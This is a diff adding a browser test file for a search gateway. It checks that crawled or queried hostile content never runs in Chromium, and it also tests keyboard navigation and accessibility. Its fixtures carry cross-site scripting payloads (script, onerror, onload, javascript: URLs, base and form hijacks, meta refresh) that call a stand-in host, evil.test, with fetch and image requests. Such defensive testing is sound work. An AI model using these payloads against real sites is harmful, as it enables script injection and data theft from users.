@@ -1,0 +1,144 @@
+"""The gateway's pages as people have them: in a real Chromium, from `beamtrawl serve`."""
+
+import os
+import shutil
+from collections.abc import Iterator
+from importlib.resources import files
+from urllib.parse import quote
+
+import pytest
+
+from tests.gateway.test_submissions import planned
+from tests.support.browser import Window, axe
+from tests.support.corpus import commit
+from tests.support.gateways import serving
+
+if not shutil.which("chromium"):
+    if os.environ.get("CI"):
+        pytest.fail("there is no chromium")
+    pytest.skip("there is no chromium", allow_module_level=True)
+
+AXE = files("axe_core_python").joinpath("axe.min.js").read_text(encoding="utf-8")
+BAD = "pwned=1;new Image().src='http://evil.test/i';fetch('http://evil.test/f');alert(1)"
+EVIL = (
+    f'"\'><script>{BAD}</script><img src=http://evil.test/i onerror="{BAD}"><svg onload="{BAD}">'
+    f"<link rel=stylesheet href=http://evil.test/s><style>@import 'http://evil.test/c'</style>"
+    f'<iframe src="javascript:parent.{BAD}"></iframe><base href=http://evil.test/>'
+    "<form action=http://evil.test/><button autofocus>"
+)
+REFRESH = "<meta http-equiv=refresh content='0;url=http://evil.test/'>"  # the one thing that no policy stops
+EVIL_URL = f"http://a.test/evil?a=%22%3E{quote(EVIL)}"
+ROWS = [
+    {"url": f"http://a.test/{number}", "title": f"Page {number}", "text": "common words", "language": language}
+    for number, language in enumerate(["en", "ko", "de"] * 8)
+]
+HOSTILE = [
+    {"url": EVIL_URL, "title": EVIL + REFRESH, "text": f"hostile {EVIL}", "language": EVIL, "anchors": [EVIL]},
+    {
+        "url": f"javascript:{BAD}//hostile",
+        "title": "hostile link",
+        "text": f"hostile\n{EVIL}{REFRESH}",
+        "media_type": EVIL,
+    },
+    {"url": f"http://b.test/{EVIL}", "text": f"hostile {EVIL}", "description": EVIL},
+]
+PAGES = {
+    "home": "/",
+    "results": "/?q=common",
+    "a later page": "/?q=common&page=2",
+    "help with spelling": "/?q=comon",
+    "nothing found": "/?q=nowhere",
+    "an error": "/?q=a&page=x",
+    "a Korean query": f"/?q={quote('검색 엔진')}",
+    "a cached text": "/cached?url=http://a.test/1&q=words",
+    "no cached text": "/cached?url=http://nowhere.test/",
+    "submissions": "/submit",
+    "hostile results": "/?q=hostile",
+    "a hostile text": f"/cached?url={quote(EVIL_URL)}&q={quote(EVIL)}",
+}
+
+
+@pytest.fixture(scope="module")
+def authority(tmp_path_factory) -> Iterator[str]:
+    """Where `beamtrawl serve` answers."""
+    crawl = planned(tmp_path_factory.mktemp("crawl"))
+    commit(crawl, 1, ROWS, HOSTILE)
+    with serving(crawl.root, "--submissions", "--rate", "0") as authority:
+        yield authority
+
+
+@pytest.fixture
+def window(authority) -> Iterator[Window]:
+    with Window(authority) as window:
+        yield window
+
+
+def test_nothing_that_was_crawled_or_asked_does_anything(window, authority):
+    for path in ("/?q=hostile", PAGES["a hostile text"], f"/?q={quote(EVIL)}", f"/?q=hostile&page={quote(EVIL)}"):
+        window.open(path)
+        assert window.evaluate("typeof pwned") == "undefined"
+        assert window.evaluate("location.host") == authority
+        assert (
+            window.evaluate("document.querySelectorAll('script, img, svg, iframe, base, style, main form').length") == 0
+        )
+        assert window.evaluate("[...document.links].filter(a => !/^https?:$/.test(a.protocol)).length") == 0
+    window.open("/?q=hostile")
+    assert window.evaluate("document.querySelectorAll('.hits > li').length") == len(HOSTILE)
+    assert {url.split("/")[2] for url in window.requests} == {authority}
+    assert window.dialogs == []
+
+
+def test_the_policy_would_stop_what_slips_through(window, authority):
+    """Markup that was not escaped: here it is put in by hand."""
+    window.open("/?q=hostile")
+    window.evaluate(f"document.querySelector('main').innerHTML = `{EVIL}`")
+    window.evaluate("new Promise(done => setTimeout(done, 300))")
+    assert window.evaluate("typeof pwned") == "undefined"
+    assert {url.split("/")[2] for url in window.requests} == {authority}
+    assert window.dialogs == []
+
+
+def test_a_keyboard_is_enough(window):
+    window.open("/")
+    assert window.evaluate("document.activeElement.id") == "q"
+    window.write("common")
+    window.press("Enter")
+    assert window.evaluate("location.search") == "?q=common"
+    assert window.evaluate("document.querySelectorAll('.hits > li').length") == 10
+    stops = []
+    for _ in range(5):
+        window.press("Tab")
+        stops.append(window.evaluate("document.activeElement.textContent.trim() || document.activeElement.id"))
+        assert window.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
+    assert stops == ["Skip to the content", "Beamtrawl", "q", "Search", "Page 0"]
+    window.open("/?q=common")
+    window.press("Tab")
+    assert window.evaluate("document.activeElement.getBoundingClientRect().top") >= 0
+    window.evaluate("document.querySelector('[rel=next]').focus()")
+    window.press("Enter")
+    assert window.evaluate("location.search") == "?q=common&page=2"
+
+
+def test_a_page_is_submitted(window):
+    window.open("/submit")
+    window.evaluate("document.getElementById('url').focus()")
+    window.write("http://b.test/")
+    window.press("Enter")
+    assert "outside the scope" in window.evaluate("document.querySelector('[role=alert]').textContent")
+    assert window.requests[-1].startswith("POST ")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_every_page_is_accessible_and_fits_a_phone(window, scheme):
+    window.view(360, 740, scheme, is_phone=True)
+    for name, path in PAGES.items():
+        window.open(path)
+        window.evaluate("document.querySelectorAll('details').forEach(details => details.open = true)")
+        assert (name, axe(window, AXE)) == (name, [])
+        assert (name, window.evaluate("document.documentElement.scrollWidth")) == (name, 360)
+
+
+def test_what_axe_finds_is_told(window):
+    window.open("/?q=common")
+    window.evaluate("document.querySelector('label').remove(); document.getElementById('q').placeholder = ''")
+    assert [found.split(":")[0] for found in axe(window, AXE)] == ["label"]
